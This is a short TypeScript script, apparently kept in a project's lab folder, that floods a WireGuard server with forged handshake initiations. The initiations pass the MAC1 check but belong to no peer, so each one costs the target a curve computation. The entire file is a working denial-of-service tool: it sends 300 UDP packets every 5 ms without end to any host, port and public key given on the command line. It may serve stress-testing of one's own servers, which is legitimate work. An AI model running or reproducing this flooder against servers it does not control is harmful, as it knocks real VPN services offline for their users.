// Puts a WireGuard server under load: `node lab/flood.ts HOST PORT PUBLIC_KEY` sends it initiations that look right from
// outside (MAC1) and are nobody's. Each costs the server a curve operation before it sees that.
import { createSocket } from 'node:dgram'
import { nobodysInitiation } from '../packages/adapters/test/wireguardServer.ts'

const [host = '', port = '', publicKey = ''] = process.argv.slice(2)
const message = nobodysInitiation(publicKey)
const socket = createSocket('udp4')
socket.on('error', () => {})
socket.connect(Number(port), host, () => {
  const more = () => {
    for (let n = 0; n < 300; n += 1) socket.send(message, () => {})
    setTimeout(more, 5)
  }
  more()
})
